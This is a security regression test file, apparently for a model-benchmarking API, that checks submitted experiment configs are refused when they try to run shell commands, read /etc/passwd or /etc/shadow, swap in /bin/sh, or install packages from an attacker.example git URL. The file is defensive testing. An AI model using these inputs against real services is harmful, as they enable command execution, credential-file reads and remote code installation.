"""Configs submitted through the API are data, never code: the attacks of the hardening
review, replayed against the real app (SQLite and PostgreSQL), each refused with a 422 that
names the line of what was sent, with nothing run and nothing stored."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from vlmhb_backend_testkit import api_client, submit, wait_status


def config(dataset: Path, model: dict[str, Any], name: str = "attack") -> str:
    return yaml.safe_dump(
        {
            "name": name,
            "models": [model],
            "datasets": [{"name": "synth", "format": "vqa_csv", "path": str(dataset)}],
            "tasks": [{"name": "vqa", "dataset": "synth", "metrics": ["cer"]}],
        },
        sort_keys=False,
    )


async def no_experiments(client: httpx.AsyncClient) -> None:
    listing = (await client.get("/api/v1/experiments")).json()
    assert listing["total"] == 0, listing


async def test_an_engine_command_line_is_refused(
    client: httpx.AsyncClient, dataset: Path, tmp_path: Path
) -> None:
    """The reported attack: ``backend: vllm, params: {command: [sh, -c, ...]}`` ran as root."""
    marker = tmp_path / "pwned"
    body = config(
        dataset,
        {
            "name": "m",
            "backend": "vllm",
            "model": "x",
            "params": {"command": ["sh", "-c", f"id > {marker}"]},
        },
    )
    response = await submit(client, body)
    assert response.status_code == 422, response.text
    detail = response.json()["detail"]
    assert detail.startswith("experiment.yaml:")
    assert "models.0.params.command" in detail and "operator" in detail
    await asyncio.sleep(0.5)
    assert not marker.exists()
    await no_experiments(client)


@pytest.mark.parametrize(
    ("model", "field"),
    [
        (
            {"name": "m", "backend": "scripted", "params": {"answers_file": "/etc/passwd"}},
            "models.0.params.answers_file",
        ),
        ({"name": "m", "backend": "scripted", "model_path": "/etc/passwd"}, "models.0.model_path"),
        (
            {
                "name": "m",
                "backend": "scripted",
                "params": {"rule": "echo", "request_log": "/tmp/outside.log"},
            },
            "models.0.params.request_log",
        ),
        (
            {
                "name": "m",
                "backend": "openai",
                "model": "x",
                "base_url": "http://127.0.0.1:9/v1",
                "api_key_env": "VLMHB_AUTH_TOKEN",
            },
            "models.0.api_key_env",
        ),
        ({"name": "m", "backend": "scripted", "env": {"packages": ["evil==1"]}}, "models.0.env"),
        (
            {"name": "m", "backend": "tesseract", "params": {"tesseract_cmd": "/bin/sh"}},
            "models.0.params.tesseract_cmd",
        ),
    ],
    ids=["answers_file", "model_path", "request_log", "api_key_env", "packages", "tesseract_cmd"],
)
async def test_each_rule_is_enforced(
    client: httpx.AsyncClient, dataset: Path, model: dict[str, Any], field: str
) -> None:
    response = await submit(client, config(dataset, model))
    assert response.status_code == 422, response.text
    detail = response.json()["detail"]
    assert field in detail, detail
    await no_experiments(client)


async def test_json_bodies_are_held_to_the_same_rules(
    client: httpx.AsyncClient, dataset: Path
) -> None:
    body = yaml.safe_load(
        config(
            dataset,
            {"name": "m", "backend": "sglang", "model": "x", "params": {"python": "/bin/sh"}},
        )
    )
    response = await submit(client, json.dumps(body), "application/json")
    assert response.status_code == 422 and "models.0.params.python" in response.text


async def test_registry_dirs_cannot_be_submitted(
    client: httpx.AsyncClient, dataset: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "evil-registry"
    folder.mkdir()
    (folder / "m.yaml").write_text(
        yaml.safe_dump(
            [
                {
                    "kind": "model",
                    "name": "evil",
                    "backend": "vllm",
                    "model": "x",
                    "params": {"command": ["sh", "-c", "id"]},
                }
            ]
        )
    )
    body = yaml.safe_load(config(dataset, {"name": "m", "backend": "scripted"}))
    body["registry_dirs"] = [str(folder)]
    response = await submit(client, yaml.safe_dump(body))
    assert response.status_code == 422 and "registry_dirs" in response.text


async def test_a_legacy_upload_cannot_install_packages(
    client: httpx.AsyncClient, dataset: Path
) -> None:
    header = (
        "dataset;task;framework;model_name;system_prompt;prompt_collection;metrics;"
        "only_evaluate_metrics;metrics_aggregators;filter_doc_class;"
        "filter_question_type"
    )
    user_config = f"{header}\n{dataset};vqa;scripted;m;;;['CER'];false;;;\n"
    base = (
        "framework;model_family;model_name;docker_image;git_python_package;"
        "python_package;module;class_name\n"
        "scripted;x;m;;git+https://attacker.example/evil.git;;evil;Evil\n"
    )
    response = await client.post(
        "/api/v1/experiments",
        headers={"Origin": "http://test"},
        files={
            "user_config.csv": ("user_config.csv", user_config.encode()),
            "vlm_base.csv": ("vlm_base.csv", base.encode()),
        },
    )
    assert response.status_code == 422, response.text
    assert "models.0.env" in response.text and "vlm_base.csv" in response.text
    await no_experiments(client)


async def test_errors_name_the_line_sent_not_server_paths(
    client: httpx.AsyncClient, dataset: Path, make_settings: Any
) -> None:
    body = (
        "name: x\nmodels:\n  - name: m\n    backend: scripted\n    params:\n"
        "      answers_file: ../../../../etc/shadow\n"
        f"datasets: [{{name: s, format: vqa_csv, path: {dataset}}}]\n"
        "tasks: [{name: t, dataset: s}]\n"
    )
    response = await submit(client, body)
    assert response.status_code == 422
    detail = response.json()["detail"]
    assert detail.startswith("experiment.yaml:6: field 'models.0.params.answers_file'"), detail
    settings = make_settings()
    for server_path in (settings.data_dir, settings.data_root):
        assert str(server_path) not in detail


async def test_the_body_is_stored_verbatim_and_runs_from_the_data_root(
    make_settings: Any, dataset: Path
) -> None:
    """Relative paths resolve against the data root; the stored file is what was sent."""
    settings = make_settings(data_root=dataset.parent)
    body = (
        "# my experiment\nname: relative\nmodels:\n  - {name: echo, backend: scripted, "
        "params: {rule: echo}}\ndatasets:\n  - {name: synth, format: vqa_csv, path: "
        f"{dataset.name}}}\ntasks:\n  - {{name: vqa, dataset: synth, metrics: [cer]}}\n"
    )
    async with api_client(settings) as client:
        response = await submit(client, body)
        assert response.status_code == 202, response.text
        experiment_id = response.json()["id"]
        stored = settings.data_dir / "experiments" / experiment_id / "experiment.yaml"
        assert stored.read_bytes() == body.encode()
        final = await wait_status(client, experiment_id)
        assert final["status"] == "COMPLETED", final
